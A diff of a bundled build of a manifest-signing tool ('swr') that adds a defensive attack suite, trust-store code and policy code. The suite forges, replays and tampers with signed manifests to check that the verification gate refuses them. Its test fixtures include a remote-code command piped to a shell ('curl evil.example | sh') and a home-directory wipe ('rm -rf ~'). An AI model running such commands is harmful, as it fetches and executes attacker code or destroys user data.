+        throw new errors_UsageError(`--expires ${spec}: more than ten years away`);
+    return new Date(at).toISOString().replace(/\.\d+Z$/, 'Z');
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/attack-suite.ts
+/**
+ * The attack suite behind `swr attacktest` and the property test in npm test. An honest manifest
+ * (signed by a trusted ML-DSA key and this machine's HMAC key, version 5, scoped, not expired) is
+ * attacked by an adversary who holds older signed versions, an expired copy, a copy signed for
+ * another repository, a signature the trusted key made over foreign bytes, and a key of their own.
+ *
+ * Each attempt loads the attacker's text exactly as a run would (strict parse, schema, rules) and
+ * asks the gate. The oracle: whenever the gate allows, the body must equal the honest body, both
+ * as swr parsed it and as a reviewer's reader would (first or last of duplicate keys). Anything
+ * else allowed is a forgery; any exception other than a clean refusal is a crash.
+ */
+
+
+
+
+
+
+
+
+
+const ATTACK_CLASSES = [
+    'byte-flip',
+    'field-edit',
+    'duplicate-key',
+    'reorder-entries',
+    'replay-old-version',
+    'expired-copy',
+    'wrong-scope',
+    'resign-untrusted',
+    'fingerprint-substitution',
+    'strip-signatures',
+    'foreign-payload-type',
+    'oversized-field',
+    'deep-nesting',
+    'huge-escrow'
+];
+const ALL_SUITE_DEFENSES = Object.freeze({
+    ...ALL_DEFENSES,
+    strictParse: true
+});
+/** Which class shows that each defence is load-bearing. */
+const DEFENCE_PROBES = {
+    signatures: 'field-edit',
+    trust: 'resign-untrusted',
+    fingerprintFromKey: 'fingerprint-substitution',
+    payloadType: 'foreign-payload-type',
+    expiry: 'expired-copy',
+    scope: 'wrong-scope',
+    rollback: 'replay-old-version',
+    strictParse: 'duplicate-key'
+};
+const attack_suite_REPO = 'acme/app';
+const REF = 'refs/heads/main';
+const NOW = new Date('2026-06-01T00:00:00Z');
+function baseBody(version, extra = {}) {
+    const sha = (c) => c.repeat(64);
+    return {
+        schema: 3,
+        version,
+        workspace: '..',
+        created: '2026-01-01T00:00:00Z',
+        expires: '2027-01-01T00:00:00Z',
+        scope: { repository: attack_suite_REPO, ref: 'refs/heads/*' },
+        entries: [
+            {
+                id: 'shim',
+                kind: 'file',
+                path: '.shim/npx',
+                tier: 0,
+                needs: [],
+                restore: 'install-shim',
+                expect: { size: 40, sha256: sha('a'), mode: '0755' }
+            },
+            {
+                id: 'src',
+                kind: 'tree',
+                path: 'src',
+                tier: 2,
+                needs: ['shim'],
+                ignore: [],
+                restore: 'git checkout -- src',
+                expect: {
+                    sentinels: ['main.c'],
+                    min_files: 3,
+                    max_files: 3,
+                    files: 3,
+                    meta_digest: sha('b'),
+                    content_digest: sha('c')
+                }
+            },
+            {
+                id: 'model',
+                kind: 'blob',
+                path: 'models/m.gguf',
+                tier: 3,
+                needs: [],
+                restore: 'fetch-model',
+                expect: { size: 3000000, headtail: sha('d'), mode: '0644' }
+            }
+        ],
+        ...extra
+    };
+}
+/** Sign `body` as-is (signDocument raises the version, so start one lower). */
+async function signed(body, keys) {
+    const lowered = { ...body, version: body.version - 1 };
+    return (await sign_signDocument({ body: lowered, signatures: [] }, keys)).doc;
+}
+async function buildScenario(seed) {
+    const trustedId = await mldsa_identityFromSeed(seed(1));
+    const attacker = await mldsa_identityFromSeed(seed(2));
+    const hmacKey = Buffer.from(seed(3));
+    const keys = { hmacKey, identity: trustedId };
+    const honest = await signed(baseBody(5), keys);
+    const evilBody = baseBody(6, {});
+    evilBody.entries[0].restore = 'curl evil.example | sh';
+    const foreign = await signMldsaRaw(trustedId, evilBody);
+    const untrusted = await signed(evilBody, { identity: attacker });
+    const policy = {
+        require: 'any',
+        hmacKey,
+        trusted: new Set([trustedId.fingerprint]),
+        minVersion: 5,
+        run: { repository: attack_suite_REPO, ref: REF, manifestPath: '.swr/manifest.json' },
+        now: NOW
+    };
+    return {
+        honest,
+        honestText: serializeDocument(honest),
+        honestCanonical: canonicalBytes(honest.body).toString('utf8'),
+        policy,
+        olderTexts: await Promise.all([3, 4].map(async (v) => serializeDocument(await signed(baseBody(v), keys)))),
+        expiredText: serializeDocument(await signed(baseBody(6, { expires: '2026-02-01T00:00:00Z' }), keys)),
+        otherScopeText: serializeDocument(await signed(baseBody(6, { scope: { repository: 'acme/other' } }), keys)),
+        foreignText: serializeDocument({ body: evilBody, signatures: [foreign] }),
+        untrustedText: serializeDocument(untrusted),
+        substitutedText: serializeDocument({
+            ...untrusted,
+            signatures: untrusted.signatures.map(sig => ({ ...sig, keyid: trustedId.fingerprint }))
+        })
+    };
+}
+/** A signature the trusted key made over the bare canonical bytes (another purpose, no PAE). */
+async function signMldsaRaw(id, body) {
+    return signMldsa(id, canonicalBytes(body));
+}
+/** The attacker's document text for mutation `m`. */
+async function mutate(s, m) {
+    const text = s.honestText;
+    switch (m.cls) {
+        case 'byte-flip': {
+            const b = Buffer.from(text, 'utf8');
+            const i = m.a % b.length;
+            b[i] = (b[i] ?? 0) ^ (1 << (m.b % 8));
+            return b.toString('utf8');
+        }
+        case 'field-edit':
+            return fieldEdit(s, m);
+        case 'duplicate-key': {
+            // A second "restore" before the signed one: JSON.parse keeps the last, a reviewer may read the first.
+            const at = nthIndex(text, '"restore": ', m.a % 3);
+            return at < 0
+                ? text
+                : `${text.slice(0, at)}"restore": "curl evil.example | sh", ${text.slice(at)}`;
+        }
+        case 'reorder-entries': {
+            const doc = structuredClone(s.honest);
+            doc.body.entries.reverse();
+            if (m.a % 2 === 1)
+                doc.body.entries.push(doc.body.entries.shift());
+            return serializeDocument(doc);
+        }
+        case 'replay-old-version':
+            return s.olderTexts[m.a % s.olderTexts.length] ?? text;
+        case 'expired-copy':
+            return s.expiredText;
+        case 'wrong-scope':
+            return s.otherScopeText;
+        case 'resign-untrusted':
+            return s.untrustedText;
+        case 'fingerprint-substitution':
+            return s.substitutedText;
+        case 'strip-signatures': {
+            const doc = structuredClone(s.honest);
+            doc.signatures = m.a % 2 === 0 ? [] : doc.signatures.filter(x => x.alg !== 'ml-dsa-87');
+            if (m.a % 2 === 1)
+                doc.body.entries[0] = { ...doc.body.entries[0], restore: 'curl evil.example | sh' };
+            return serializeDocument(doc);
+        }
+        case 'foreign-payload-type':
+            return s.foreignText;
+        case 'oversized-field': {
+            const doc = structuredClone(s.honest);
+            doc.body.entries[0] = {
+                ...doc.body.entries[0],
+                restore: 'x'.repeat(65537 + (m.a % 1000))
+            };
+            return serializeDocument(doc);
+        }
+        case 'deep-nesting': {
+            const depth = 33 + (m.a % 200);
+            return text.replace('"signatures": [', `"signatures": [${'['.repeat(depth)}${']'.repeat(depth)},`);
+        }
+        case 'huge-escrow': {
+            const doc = structuredClone(s.honest);
+            const e = doc.body.entries[0];
+            e.escrow = 'A'.repeat(300_000 + (m.a % 1000));
+            return JSON.stringify(doc);
+        }
+    }
+}
+function nthIndex(text, needle, n) {
+    let at = -1;
+    for (let i = 0; i <= n; i++) {
+        at = text.indexOf(needle, at + 1);
+        if (at < 0)
+            return -1;
+    }
+    return at;
+}
+function fieldEdit(s, m) {
+    const doc = structuredClone(s.honest);
+    const e = doc.body.entries[m.a % doc.body.entries.length];
+    const expect = e.expect;
+    switch (m.b % 8) {
+        case 0:
+            e.restore = `${String(e.restore)}; curl evil.example | sh`;
+            break;
+        case 1:
+            e.path = `${String(e.path)}x`;
+            break;
+        case 2:
+            e.tier = ((Number(e.tier) + 1) % 5);
+            break;
+        case 3:
+            e.needs = [];
+            break;
+        case 4:
+            expect.size = Number(expect.size ?? 0) + 1;
+            break;
+        case 5:
+            doc.body.version += 1;
+            break;
+        case 6:
+            doc.body.expires = '2099-01-01T00:00:00Z';
+            break;
+        default:
+            e.smoke = 'rm -rf ~';
+    }
+    return serializeDocument(doc);
+}
+/** What a reviewer's JSON reader shows, keeping the first (or last) of duplicate keys. */
+function readerView(text, keep) {
+    const root = (0,main.parseTree)(text);
+    const build = (n) => {
+        if (!n)
+            return undefined;
+        if (n.type === 'object') {
+            const out = new Map();
+            for (const p of n.children ?? []) {
+                const key = String(p.children?.[0]?.value);
+                if (keep === 'first' && out.has(key))
+                    continue;
+                out.set(key, build(p.children?.[1]));
+            }
+            return Object.fromEntries(out);
+        }
+        if (n.type === 'array')
+            return (n.children ?? []).map(build);
+        return n.value;
+    };
+    return build(root);
+}
+function sameAsHonest(s, body) {
+    try {
+        return canonicalBytes(body).toString('utf8') === s.honestCanonical;
+    }
+    catch {
+        return false;
+    }
+}
+/** Load `text` as a run would and ask the gate. */
+async function attempt(s, text, defenses = ALL_SUITE_DEFENSES) {
+    try {
+        let doc;
+        if (defenses.strictParse)
+            doc = load_parseManifestText(text, 'attack.json').doc;
+        else {
+            // The lax reader a careless implementation would use (last duplicate wins), still schema-checked.
+            const lax = JSON.parse(text);
+            doc = load_parseManifestText(JSON.stringify(lax), 'attack.json').doc;
+        }
+        const decision = await gate_decide({ body: doc.body, signatures: doc.signatures, digest: canonical_manifestDigest(doc.body) }, s.policy, defenses);
+        if (!decision.allowed)
+            return 'refused';
+        const honest = sameAsHonest(s, doc.body) &&
+            sameAsHonest(s, readerView(text, 'first')?.body) &&
+            sameAsHonest(s, readerView(text, 'last')?.body);
+        return honest ? 'accepted-honest' : 'forgery';
+    }
+    catch (err) {
+        if (err instanceof errors_SwrError || err instanceof SyntaxError)
+            return 'refused';
+        return 'crash';
+    }
+}
+function emptyCounts() {
+    return { attempts: 0, refused: 0, acceptedHonest: 0, forgeries: 0, crashes: 0, byClass: {} };
+}
+function attack_suite_tally(c, cls, o) {
+    c.attempts++;
+    const k = (c.byClass[cls] ??= { attempts: 0, forgeries: 0, crashes: 0 });
+    k.attempts++;
+    if (o === 'refused')
+        c.refused++;
+    else if (o === 'accepted-honest')
+        c.acceptedHonest++;
+    else if (o === 'forgery') {
+        c.forgeries++;
+        k.forgeries++;
+    }
+    else {
+        c.crashes++;
+        k.crashes++;
+    }
+}
+/** Run `count` mutations drawn from `next` (a source of uniform 32-bit integers). */
+async function runSuite(s, count, next, defenses = ALL_SUITE_DEFENSES, classes = ATTACK_CLASSES) {
+    const counts = emptyCounts();
+    for (let i = 0; i < count; i++) {
+        const cls = classes[next() % classes.length];
+        const m = { cls, a: next(), b: next() };
+        attack_suite_tally(counts, cls, await attempt(s, await mutate(s, m), defenses));
+    }
+    return counts;
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/trust.ts
+/**
+ * Which ML-DSA signers this machine trusts. Locally: a trust store in the private state directory
+ * (`trust.json`, 0600) plus this machine's own identity. In CI: fingerprints or public keys from an
+ * action input, never from files of the checked-out tree.
+ */
+
+
+
+
+
+
+function storePath(stateDir) {
+    return external_node_path_default().join(stateDir, 'trust.json');
+}
+function readTrustStore(stateDir) {
+    let text;
+    try {
+        text = external_node_fs_default().readFileSync(storePath(stateDir), 'utf8');
+    }
+    catch {
+        return [];
+    }
+    try {
+        const v = JSON.parse(text);
+        if (v.v !== 1 || !Array.isArray(v.signers))
+            throw new Error('shape');
+        return v.signers.filter(s => normalizeFingerprint(s.fingerprint) === s.fingerprint && typeof s.name === 'string');
+    }
+    catch {
+        throw new errors_SwrError(`${storePath(stateDir)}: trust store is damaged; fix or remove it`, errors_EXIT.UNREPAIRABLE);
+    }
+}
+function writeTrustStore(stateDir, signers) {
+    state_dir_ensurePrivateDir(stateDir);
+    atomic_writeFileAtomic(storePath(stateDir), JSON.stringify({ v: 1, signers }, null, 2) + '\n', {
+        mode: 0o600
+    });
+}
+function addTrusted(stateDir, fp, name, now) {
+    const norm = normalizeFingerprint(fp);
+    if (!norm)
+        throw new errors_SwrError(`${fp}: not a fingerprint (64 hex digits, spaces allowed)`, errors_EXIT.BAD_MANIFEST);
+    const signers = readTrustStore(stateDir).filter(s => s.fingerprint !== norm);
+    const signer = { fingerprint: norm, name, added: now.toISOString() };
+    writeTrustStore(stateDir, [...signers, signer]);
+    return signer;
+}
+/** Remove by fingerprint or name; returns what was removed. */
+function removeTrusted(stateDir, what) {
+    const norm = normalizeFingerprint(what);
+    const signers = readTrustStore(stateDir);
+    const removed = signers.filter(s => s.fingerprint === norm || s.name === what);
+    if (removed.length === 0)
+        throw new errors_SwrError(`no trusted signer matches ${what}`, errors_EXIT.BAD_MANIFEST);
+    writeTrustStore(stateDir, signers.filter(s => !removed.includes(s)));
+    return removed;
+}
+/**
+ * Trusted fingerprints from an input: one per line (or comma-separated), each a fingerprint or a
+ * base64 public key (whose fingerprint is computed); text after whitespace following a public key,
+ * or after "#", is a comment.
+ */
+function parseTrustedSigners(text) {
+    const out = new Set();
+    for (const raw of text.split(/[\n,]/)) {
+        const line = raw.replace(/#.*/, '').trim();
+        if (!line)
+            continue;
+        const fp = normalizeFingerprint(line);
+        if (fp) {
+            out.add(fp);
+            continue;
+        }
+        const token = line.split(/\s+/)[0] ?? '';
+        const key = /^[A-Za-z0-9+/]+={0,2}$/.test(token) ? Buffer.from(token, 'base64') : undefined;
+        if (key && key.length === PUBLIC_KEY_BYTES)
+            out.add(fingerprint(key));
+        else
+            throw new errors_SwrError(`trusted signer "${line.slice(0, 40)}": not a fingerprint or ML-DSA-87 public key`, errors_EXIT.BAD_MANIFEST);
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/policy.ts
+/**
+ * Building the gate's policy from explicit sources. The CLI passes its environment, flags and the
+ * local trust store; the Action passes its inputs (trust never comes from the checked-out tree).
+ */
+
+
+
+
+
+
+
+function parseRequirement(v) {
+    if (!REQUIREMENTS.includes(v)) {
+        throw new errors_UsageError(`require must be one of ${REQUIREMENTS.join(', ')} (got "${v}")`);
+    }
+    return v;
+}
+/**
+ * Why `threshold` cannot mean what it says under `require`, or undefined when it can. A threshold
+ * counts distinct trusted ML-DSA signers whose signatures verify (an HMAC key is shared by everyone
+ * who verifies with it, so it tells no signers apart): above 1 it needs a requirement that cannot be
+ * met without ML-DSA, mldsa or both. Under any, one HMAC signature would run recipes without them.
+ * `spell` names the option and the requirement as the shell spells them (--threshold, input require).
+ */
+function thresholdProblem(require, threshold, spell = { threshold: 'threshold', require: 'require' }) {
+    if (threshold === undefined || threshold <= 1 || require === 'mldsa' || require === 'both')
+        return undefined;
+    const why = require === 'any'
+        ? `one HMAC signature alone meets ${spell.require} any`
+        : `${spell.require} hmac asks for no ML-DSA signature`;
+    return `${spell.threshold} ${threshold} counts distinct trusted ML-DSA signers, but ${why}: use ${spell.require} mldsa or both`;
+}
+/** The manifest's path relative to its workspace, as a scope's manifest_path names it. */
+function manifestPathInWorkspace(m) {
+    return inside_isInside(m.workspace, m.file)
+        ? external_node_path_default().relative(m.workspace, m.file).split((external_node_path_default()).sep).join('/')
+        : undefined;
+}
+function makePolicy(m, src) {
+    const trusted = new Set();
+    if (src.local)
+        for (const s of readTrustStore(src.stateDir))
+            trusted.add(s.fingerprint);
+    if (src.ownFingerprint)
+        trusted.add(src.ownFingerprint);
+    for (const t of src.trustedSigners)
+        for (const fp of parseTrustedSigners(t))
+            trusted.add(fp);
+    const require = parseRequirement(src.require);
+    const problem = thresholdProblem(require, src.threshold, src.spell);
+    if (problem)
+        throw new errors_UsageError(problem);
+    const hmac = src.local ? keys_loadHmacKey(src.stateDir, src.hmacKeyText) : undefined;
+    return {
+        require,
+        hmacKey: hmac?.key ?? (src.hmacKeyText ? keys_loadHmacKey(src.stateDir, src.hmacKeyText)?.key : undefined),
+        trusted,
+        threshold: src.threshold,
+        minVersion: src.minVersion,
+        remembered: src.local ? version_memory_recall(src.stateDir, m.file, m.body.scope) : undefined,
+        run: { ...src.run, manifestPath: manifestPathInWorkspace(m) },
+        now: src.now,
+        waiveDigest: src.waiveDigest
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/face/sign.ts
+// The `sign` namespace of the engine's face (src/core/index.ts): what only the shells compose.
+
+
+
+
+
+
+
+
+
+
+
+
+;// CONCATENATED MODULE: ./src/core/face/state.ts
+// The `state` namespace of the engine's face (src/core/index.ts): what only the shells compose.
+
+
+
+
+
+
+
+;// CONCATENATED MODULE: ./src/core/face/sync.ts
+// The `sync` namespace of the engine's face (src/core/index.ts): what only the shells compose.
+
+
+
+
+
+
+
+
+;// CONCATENATED MODULE: ./src/core/face/walk.ts
+// The `walk` namespace of the engine's face (src/core/index.ts): what only the shells compose.
+
+
+
 ;// CONCATENATED MODULE: ./src/core/index.ts
 /**
- * The swr engine, shared by the CLI and the GitHub Action:
- *
- *   load (strict parse, schema, rules, digest)
- *     -> verify (one verifier per kind; one hash pool; incremental cache)
- *     -> diagnose (wipe signature, cause and fix per entry)
- *     -> report (JSON, text)
- *
- * It prints nothing, exits nowhere and reads no environment: the shells decide all of that.
+ * The engine's face: the one module the CLI, the Action and the adapters import. It holds the use
+ * cases and their results, what a result and an error mean, the renderers and the vocabulary at
+ * the top level (at most about sixty values), and, as namespaces, the pieces only the shells
+ * compose (keys and trust, authoring helpers, the sync stores, canary ledgers, history). The
+ * engine prints nothing, exits nowhere and reads no environment: the shells decide all of that.
  */
-// The use cases, each returning a finished result, and what a result means (status, exit code).
+// The use cases (src/core/engine/), each returning a finished result; what a result means
+// (status, exit code) and what an error means, each decided in one place.
 
 
 
@@ -15577,15 +17115,18 @@ function recordReplicas(stateDir, manifest, replicas) {
 
 
 
+// Errors and exit codes.
 
 
 
+// Loading a manifest, and the vocabulary of entries, manifests and the cache.
 
-// What the shells use besides the engine calls above: renderers, stores, keys, helpers.
 
 
 
 
+// The renderers: reports as text, Markdown, SARIF and annotations; untrusted text escaped and
+// quoted by one function each.
 
 
 
@@ -15599,45 +17140,7 @@ function recordReplicas(stateDir, manifest, replicas) {
 
 
 
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
+// What only the shells compose, by namespace: `sign.makePolicy`, `author.planPreset`, ...
 
 
 
@@ -15655,7 +17158,7 @@ function recordReplicas(stateDir, manifest, replicas) {
 
 /***/ }),
 
-/***/ 3439:
+/***/ 1220:
 /***/ ((module, __unused_webpack_exports, __webpack_require__) => {
 
 module.exports = __webpack_require__.p + "d3bac30ed009078979ca.mjs";
